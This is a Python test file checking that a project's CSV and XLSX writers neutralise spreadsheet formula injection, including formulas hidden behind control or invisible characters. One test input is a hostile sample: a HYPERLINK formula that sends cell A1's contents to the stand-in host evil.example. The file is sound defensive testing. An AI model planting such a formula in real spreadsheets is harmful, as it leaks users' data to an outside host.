"""Every CSV/XLSX writer neutralises formulas after normalising the text, never before.

The writers are ``tabular.write_table`` (.xlsx and .csv: exports, templates, error files) and
``output.emit`` (``--format csv``). A cell is safe when the text a spreadsheet sees does not start
with a formula character — also once the control characters that XML cannot carry are removed.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cds.lib.output import emit, neutralise_formula, safe_cell_text
from cds.lib.tabular import write_table
from cds.lib.testing import examples

FORMULA_STARTS = ("=", "+", "-", "@", "\t")
CONTROL = [chr(c) for c in [*range(0x01, 0x09), *range(0x0E, 0x1C), 0x0B, 0x0C, 0x7F]]


def _xlsx_cells(path: Path) -> list[str]:
    sheet = openpyxl.load_workbook(path).active
    return [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]


def _write_xlsx(tmp: Path, texts: list[str]) -> list[str]:
    path = tmp / "out.xlsx"
    write_table(path, ["note"], [[t] for t in texts])
    return _xlsx_cells(path)


def _write_csv(tmp: Path, texts: list[str]) -> list[str]:
    path = tmp / "out.csv"
    write_table(path, ["note"], [[t] for t in texts])
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [row[0] for row in list(csv.reader(handle))[1:]]


def _emit_csv(_tmp: Path, texts: list[str]) -> list[str]:
    stream = io.StringIO()
    emit([{"note": t} for t in texts], "csv", stream, columns=["note"])
    stream.seek(0)
    return [row[0] for row in list(csv.reader(stream))[1:]]


WRITERS = [_write_xlsx, _write_csv, _emit_csv]


def _is_live_formula(text: str) -> bool:
    significant = text.lstrip(" \u00a0\ufeff\u200b")
    if not significant.startswith(FORMULA_STARTS):
        return False
    try:
        float(significant.replace(",", "."))
    except ValueError:
        return True
    return False


def test_a_control_character_before_a_formula_no_longer_hides_it(tmp_path: Path) -> None:
    attack = '\x01=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    for writer in WRITERS:
        (cell,) = writer(tmp_path, [attack])
        assert cell == "'" + attack[1:], writer.__name__


def test_every_stripped_control_character_is_caught(tmp_path: Path) -> None:
    texts = [f"{c}=1+1" for c in CONTROL]
    for writer in WRITERS:
        assert writer(tmp_path, texts) == ["'=1+1"] * len(texts), writer.__name__


def test_spaces_and_invisible_marks_before_a_formula_are_caught() -> None:
    for lead in (" ", "  ", "\u00a0", "\ufeff", "\u200b", " \x02"):
        assert safe_cell_text(lead + "=SUM(A1)").startswith("'"), repr(lead)


def test_decomposed_text_is_written_composed_and_numbers_stay_numbers() -> None:
    assert safe_cell_text(unicodedata.normalize("NFD", "Quảng Ngãi")) == "Quảng Ngãi"
    assert neutralise_formula("-7") == "-7"
    assert neutralise_formula("-1+2") == "'-1+2"
    assert neutralise_formula(12) == 12


cell_text = st.text(
    alphabet=st.sampled_from(
        [*CONTROL, "\t", "\r", "\n", " ", "\u00a0", "=", "+", "-", "@", "1", "a", "ệ", '"']
    ),
    max_size=12,
)


@settings(
    max_examples=examples(150), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(cell_text, min_size=1, max_size=5))
def test_no_writer_ever_writes_a_live_formula(tmp_path: Path, texts: list[str]) -> None:
    for writer in WRITERS:
        for written in writer(tmp_path, texts):
            assert not _is_live_formula(written), (writer.__name__, written)
            assert not any(c in written for c in CONTROL), (writer.__name__, written)
